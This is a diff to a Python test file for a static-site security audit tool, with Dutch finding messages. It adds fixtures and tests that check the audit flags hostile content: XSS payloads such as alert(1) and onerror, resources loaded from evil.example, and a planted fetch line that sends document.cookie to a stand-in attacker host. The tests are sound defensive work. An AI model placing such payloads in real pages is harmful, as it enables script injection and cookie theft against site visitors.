@@ -15,14 +15,17 @@ import pytest
 from thuisbasis.audit import (
     MATERIAL_INLINE_SHA256,
     MATERIAL_SCOPE_SCRIPT,
+    Finding,
     audit_site,
     csp_script_hashes,
     is_material_inline_script,
     sha256_base64,
+    srcset_urls,
 )
 
 ROOT = Path(__file__).parent.parent
 SCRIPTS = ROOT / "docs" / "javascripts"
+HOSTILE_FIXTURES = Path(__file__).parent / "fixtures" / "audit"
 MATERIAL_TEMPLATES = Path(material.__file__).parent / "templates"
 SCOPE_READ = "document.currentScript.dataset.mdScope"  # where Material writes the base URL into its script
 
@@ -65,7 +68,7 @@ PLANTED = [
     ("<script>alert(1)</script>", "inline <script> die niet van het thema komt: \"alert(1)\""),
     ("<script src=\"https://evil.example/x.js\"></script>", "laadt iets van een andere host"),
     ("<script src=\"//evil.example/x.js\"></script>", "laadt iets van een andere host"),
-    ("<script src=\"../javascripts/evil.js\"></script>", "komt niet van het thema en niet uit docs/javascripts/"),
+    ("<script src=\"../javascripts/evil.js\"></script>", "bestaat niet in de site"),
     ("<script src=\"data:text/javascript,alert(1)\"></script>", "data:-adres in 'src' op <script>"),
     ("<svg><script>alert(1)</script></svg>", "inline <script> die niet van het thema komt"),
     ("<img src=\"x.png\" onerror=\"alert(1)\">", "attribuut 'onerror' op <img>"),
@@ -111,15 +114,153 @@ def test_a_planted_payload_is_reported_at_its_line(tmp_path: Path, payload: str,
     assert message in findings[0].message
 
 
+# One file per trick that an earlier audit let through: file name -> what the finding says. The file is
+# put at the root of an otherwise empty site, under its own name (the name decides how it is read).
+HOSTILE = {
+    "svg-script.svg": "<script> in een SVG- of XML-bestand is niet toegestaan",
+    "prefixed-script.svg": "<script> in een SVG- of XML-bestand is niet toegestaan",
+    "xhtml-script.xhtml": "<script> in een SVG- of XML-bestand is niet toegestaan",
+    "htm-script.htm": "inline <script> die niet van het thema komt",
+    "sniffed-without-extension": "inline <script> die niet van het thema komt",
+    "utf16-bom.html": "inline <script> die niet van het thema komt",
+    "stray-script.js": "script komt niet van het thema, niet van Pagefind en niet uit docs/javascripts/",
+    "stray-module.mjs": "script komt niet van het thema, niet van Pagefind en niet uit docs/javascripts/",
+    "meta-refresh.html": "<meta http-equiv=\"refresh\"> stuurt door naar een andere host",
+    "svg-image.svg": "<image href=\"https://evil.example/p.png\"> laadt iets van een andere host",
+    "svg-image-in-html.html": "<image xlink:href=\"//evil.example/p.png\"> laadt iets van een andere host",
+    "css-url.css": "CSS laadt \"https://evil.example/p.png\" van een andere host",
+    "css-import.css": "CSS laadt \"https://evil.example/x.css\" van een andere host",
+    "css-escaped-url.css": "CSS laadt \"//evil.example/p.png\" van een andere host",
+    "css-image-set.css": "CSS laadt \"https://evil.example/p.png\" van een andere host",
+    "style-block.html": "CSS laadt \"https://evil.example/x.css\" van een andere host",
+    "style-attribute.html": "style-attribuut op <div>: CSS laadt \"https://evil.example/p.png\"",
+    "svg-style-comment.svg": "<style> bevat '</style' of '<!--'",
+    "form-action.html": "<form action=\"https://evil.example/verzamel\"> stuurt gegevens naar een andere host",
+    "link-prerender.html": "<link href=\"https://evil.example/\"> laadt iets van een andere host",
+    "link-imagesrcset.html": "<link imagesrcset=\"https://evil.example/p.png\"> laadt iets van een andere host",
+    "base-href.htm": "element <base> is niet toegestaan",
+    "object-data.svg": "element <object> is niet toegestaan",
+    "embed-src.xhtml": "element <embed> is niet toegestaan",
+    "svg-xlink-javascript.svg": "javascript:-adres in 'x:href' op <a> is niet toegestaan",
+    "svg-href-javascript.svg": "javascript:-adres in 'href' op <a> is niet toegestaan",
+    "svg-set-href.svg": "<set> verandert 'href'",
+    "xml-base.svg": "attribuut 'xml:base' op <svg> is niet toegestaan",
+    "comment-abrupt.html": "commentaar met opmaak erin",
+    "comment-dashes.html": "commentaar met opmaak erin",
+    "comment-bang.html": "commentaar met opmaak erin",
+    "comment-conditional.html": "commentaar met opmaak erin",
+    "cdata.html": "<![CDATA[ ><script>aler…]> is niet toegestaan",
+    "marked-section.html": "opmaak die deze controle niet kan lezen (<![…[)",
+    "script-end-in-string.html": "<script> bevat '</script' of '<!--'",
+    "doctype-entity.svg": "<!DOCTYPE> met eigen definities (entiteiten) is niet toegestaan",
+    "xml-stylesheet.xml": "verwerkingsinstructie <?xml-stylesheet …?> is niet toegestaan",
+    "charset.html": "tekenset 'iso-2022-jp' is niet toegestaan",
+    "unreadable-tag.html": "\"<x\" is een tag die deze controle niet kan lezen",
+}
+
+
+def test_every_hostile_fixture_is_listed() -> None:
+    assert sorted(path.name for path in HOSTILE_FIXTURES.iterdir()) == sorted(HOSTILE)
+
+
+@pytest.mark.parametrize(("name", "message"), HOSTILE.items(), ids=list(HOSTILE))
+def test_a_hostile_file_is_reported(tmp_path: Path, name: str, message: str) -> None:
+    site = tmp_path / "site"
+    shutil.copytree(SCRIPTS, site / "javascripts")
+    shutil.copy(HOSTILE_FIXTURES / name, site / name)
+    _, findings = audit_site(site, SCRIPTS)
+    assert findings, name
+    assert {found.path for found in findings} == {site / name}
+    assert any(message in found.message for found in findings), [str(found) for found in findings]
+
+
+def test_a_hostile_file_fails_the_command(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    site.mkdir()
+    shutil.copy(HOSTILE_FIXTURES / "svg-script.svg", site / "logo.svg")
+    result = subprocess.run([sys.executable, "-m", "thuisbasis", "audit", str(site)],
+                            capture_output=True, text=True, cwd=ROOT, timeout=120)
+    assert result.returncode == 1
+    assert result.stdout.startswith(f"{(site / 'logo.svg').as_posix()}:2:9: <script> in een SVG- of XML-bestand")
+
+
+@pytest.mark.parametrize("pattern", ["assets/javascripts/bundle.*.min.js", "assets/javascripts/workers/search.*.min.js",
+                                     "pagefind/pagefind.js", "pagefind/pagefind-worker.js"])
+def test_a_file_named_like_a_theme_or_pagefind_script_is_known_by_content(site_copy: Path, pattern: str) -> None:
+    script = next(iter(site_copy.glob(pattern)))
+    script.write_text("fetch('https://evil.example/?'+document.cookie)\n", encoding="utf-8")
+    _, findings = audit_site(site_copy, SCRIPTS)
+    assert findings
+    assert all("maar andere inhoud" in found.message for found in findings)
+    assert Finding(script, 1, 1, f"script heeft de naam van een bestand van {'Pagefind' if 'pagefind' in pattern else 'Material'}, "
+                   "maar andere inhoud") in findings
+
+
+def test_a_script_with_a_bundle_like_name_that_material_does_not_ship_is_reported(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    (site / "assets" / "javascripts").mkdir(parents=True)
+    (site / "assets" / "javascripts" / "bundle.0badc0de.min.js").write_text("alert(1)\n", encoding="utf-8")
+    (site / "index.html").write_text('<script src="assets/javascripts/bundle.0badc0de.min.js"></script>\n',
+                                     encoding="utf-8")
+    _, findings = audit_site(site, SCRIPTS)
+    assert [str(found).split(": ", 1)[1] for found in findings] == [
+        "script komt niet van het thema, niet van Pagefind en niet uit docs/javascripts/",
+        '<script src="assets/javascripts/bundle.0badc0de.min.js"> komt niet van het thema, niet van Pagefind en '
+        "niet uit docs/javascripts/",
+    ]
+
+
+def test_css_of_the_real_site_with_a_url_to_another_host_is_reported(site_copy: Path) -> None:
+    stylesheet = site_copy / "stylesheets" / "thuisbasis.css"
+    stylesheet.write_text(stylesheet.read_text(encoding="utf-8") + "\n.x { background: url(https://evil.example/p.png) }\n",
+                          encoding="utf-8")
+    _, findings = audit_site(site_copy, SCRIPTS)
+    assert [found.path for found in findings] == [stylesheet]
+
+
+def test_a_finding_is_one_line_whatever_the_page_holds(tmp_path: Path) -> None:
+    site = tmp_path / "site"
+    site.mkdir()
+    (site / "a\nb.html").write_text('<img src="https://evil.example/\n/tmp/x.yaml:1:1: TB000 nep">\n', encoding="utf-8")
+    _, findings = audit_site(site, SCRIPTS)
+    assert [str(found) for found in findings] == [
+        f"{site.as_posix()}/a\\nb.html:1:1: <img src=\"https://evil.example/\\n/tmp/x.yaml:1:1: TB000 nep\"> laadt iets "
+        "van een andere host; de site laadt alles zelf"]
+
+
+@pytest.mark.parametrize(("srcset", "urls"), [
+    ("a.png 1x, b.png 2x", ["a.png", "b.png"]),
+    ("https://e.example/a,b.png 1x", ["https://e.example/a,b.png"]),
+    ("data:image/png;base64,AAA= 1x,https://e.example/p.png 2x", ["data:image/png;base64,AAA=", "https://e.example/p.png"]),
+    ("a.png,, https://e.example/p.png", ["a.png", "https://e.example/p.png"]),
+    ("a.png,,https://e.example/p.png", ["a.png,,https://e.example/p.png"]),  # one relative URL, as in a browser
+    ("a.png (x, y), https://e.example/p.png", ["a.png", "https://e.example/p.png"]),
+])
+def test_srcset_is_split_as_a_browser_does(srcset: str, urls: list[str]) -> None:
+    assert srcset_urls(srcset) == urls
+
+
 def test_links_to_other_sites_and_local_images_are_fine(tmp_path: Path) -> None:
     site_copy = tmp_path / "site"
     site_copy.mkdir()
     page = site_copy / "geplant.html"
     page.write_text("<a href=\"https://www.rijksoverheid.nl/\">bron</a><a href=\"mailto:info@example.org\">m</a>"
                     "<img src=\"../assets/images/favicon.png\"><img src=\"data:image/png;base64,iVBORw0KGgo=\">"
-                    "<a href=\"#ongeveer-javascript:\">anker</a><link rel=\"canonical\" href=\"https://example.org/\">",
+                    "<a href=\"#ongeveer-javascript:\">anker</a><link rel=\"canonical\" href=\"https://example.org/\">"
+                    "<!doctype html><meta charset=\"UTF-8\"><meta http-equiv=\"refresh\" content=\"0; url=../nieuw/\">"
+                    "<link rel=\"alternate\" type=\"application/atom+xml\" href=\"https://example.org/feed.xml\">"
+                    "<blockquote cite=\"https://example.org/bron\">citaat</blockquote><form action=\"zoeken/\"></form>"
+                    "<div style=\"width: 40%; background: url(../assets/images/favicon.png)\">balk</div>",
                     encoding="utf-8")
-    assert audit_site(site_copy, SCRIPTS) == (1, [])
+    (site_copy / "logo.svg").write_text(
+        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
+        'xmlns:xlink="http://www.w3.org/1999/xlink"><style>.a{fill:red}</style><image xlink:href="p.png"/>'
+        '<a href="https://www.rijksoverheid.nl/"><text>bron</text></a></svg>\n', encoding="utf-8")
+    (site_copy / "stijl.css").write_text(
+        '@import "basis.css";\n/* url(https://example.org/) in commentaar */\n.a::after { content: "//"; }\n'
+        ".b { background: url(\"data:image/svg+xml;charset=utf-8,<svg xmlns='http://www.w3.org/2000/svg'/>\") }\n",
+        encoding="utf-8")
+    assert audit_site(site_copy, SCRIPTS) == (2, [])
 
 
 def test_a_payload_in_a_real_case_page_fails_the_command(site_copy: Path) -> None:
